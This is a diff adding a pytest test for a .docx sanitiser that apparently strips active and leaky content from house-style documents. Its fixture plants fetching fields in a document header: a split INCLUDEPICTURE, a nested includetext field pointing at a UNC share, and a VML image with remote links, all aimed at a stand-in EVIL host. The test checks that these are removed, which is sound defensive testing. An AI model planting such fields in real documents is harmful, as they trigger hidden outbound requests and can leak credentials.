@@ -175,3 +175,58 @@ def test_sanitise_keeps_what_a_house_style_needs() -> None:
             "word/header1.xml", "word/settings.xml", "word/fontTable.xml"} <= names
     assert not any(n.startswith("customXml/") or "thumbnail" in n for n in names)
     assert clean.dropped == ["customXml data", "the thumbnail picture"]
+
+
+def split_field_and_remote_pictures(parts: dict[str, bytes]) -> None:
+    """A fetching field split over two instruction runs, one nested in a QUOTE field, a VML
+    picture with remote `src`/`o:href`, and leaky file properties (R1, R2)."""
+    split = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+             '<w:r><w:instrText xml:space="preserve"> INCL</w:instrText></w:r>'
+             f'<w:r><w:instrText xml:space="preserve">UDEPICTURE "http://{EVIL}/split.png" \\d '
+             '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+             '<w:r><w:t>SHOWN</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
+    nested = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+              '<w:r><w:instrText xml:space="preserve"> QUOTE </w:instrText></w:r>'
+              '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+              f'<w:r><w:instrText xml:space="preserve"> includetext "\\\\\\\\{EVIL}\\\\share\\\\x" '
+              '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+              '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
+    page = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
+    vml = ('<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
+           'xmlns:o="urn:schemas-microsoft-com:office:office" style="width:9pt;height:9pt">'
+           f'<v:imagedata src="http://{EVIL}/vml.png" o:href="file://{EVIL}/href.png"/>'
+           '</v:shape></w:pict></w:r>')
+    parts["word/header1.xml"] = parts["word/header1.xml"].replace(
+        b"</w:p>", (split + nested + page + vml + "</w:p>").encode(), 1)
+    parts["docProps/app.xml"] = parts["docProps/app.xml"].replace(
+        b"</Properties>", f"<Company>LEAKY CORP</Company><Manager>A Manager</Manager>"
+        f"<HyperlinkBase>http://{EVIL}/base/</HyperlinkBase></Properties>".encode())
+    parts["docProps/core.xml"] = parts["docProps/core.xml"].replace(
+        b"</cp:coreProperties>", b"<cp:contentStatus>INTERNAL ONLY</cp:contentStatus>"
+        b"<dc:identifier>LEAK-ID</dc:identifier><cp:version>LEAK-VERSION</cp:version>"
+        b"</cp:coreProperties>")
+
+
+def test_split_and_nested_fetching_fields_remote_pictures_and_properties_are_dropped(
+        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
+    ref = tmp_path / "house.docx"
+    ref.write_bytes(rewrite(plain_docx(), split_field_and_remote_pictures))
+    code, err, _ = build(capsys, tmp_path, ref)
+    assert code in (0, 1), err
+    assert "active fields" in err
+    outputs = sorted((tmp_path / "out").glob("*.docx"))
+    assert len(outputs) >= 4
+    for path in outputs:
+        with zipfile.ZipFile(path) as z:
+            blob = b"".join(z.read(n) for n in z.namelist())
+            header = b"".join(z.read(n) for n in z.namelist() if n.startswith("word/header"))
+        for leak in (EVIL.encode(), b"INCLUDEPICTURE", b"includetext", b"UDEPICTURE",
+                     b"LEAKY CORP", b"A Manager", b"HyperlinkBase", b"INTERNAL ONLY",
+                     b"LEAK-ID", b"LEAK-VERSION"):
+            assert leak not in blob, (path.name, leak)
+        assert b" PAGE " in header  # an ordinary field is kept
+        assert b" QUOTE " not in header  # the field around a fetching one goes with it
+        d = docx.Document(str(path))
+        assert d.core_properties.title  # svauthor's own properties are still written
